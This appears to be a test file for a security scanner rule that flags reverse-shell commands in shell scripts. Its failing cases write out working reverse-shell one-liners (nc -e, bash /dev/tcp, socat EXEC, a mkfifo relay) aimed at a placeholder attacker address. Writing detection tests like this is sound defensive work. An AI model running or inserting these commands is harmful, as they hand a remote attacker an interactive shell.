import { reverseShellCommand } from '../../../src/scan/rules/reverse-shell-command.ts';
import { testRule } from '../rule-tester.ts';
import { doc, sh } from './common/skills.ts';

testRule(reverseShellCommand, {
  valid: [
    { name: 'nc port check', files: sh('nc -zv api.example.com 443') },
    { name: 'http over /dev/tcp read', files: sh('exec 3</dev/tcp/api.example.com/80') },
    { name: 'socat port forward', files: sh('socat TCP-LISTEN:8080,fork TCP:127.0.0.1:3000') },
  ],
  invalid: [
    { name: 'nc -e', files: sh('nc 203.0.113.5 4444 -e /bin/sh'), errors: [{ messageId: 'shell', severity: 'critical' }] },
    { name: 'bash -i to /dev/tcp', files: sh('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), errors: [{ messageId: 'shell' }] },
    { name: 'socat exec', files: sh('socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr'), errors: [{ messageId: 'shell' }] },
    { name: 'mkfifo relay', files: sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'), errors: [{ messageId: 'shell' }] },
    { name: 'in an attack catalogue it weighs less', files: doc('nc -e /bin/sh 203.0.113.5 4444', { heading: 'Indicators of compromise' }), errors: [{ messageId: 'shell', severity: 'medium' }] },
  ],
});
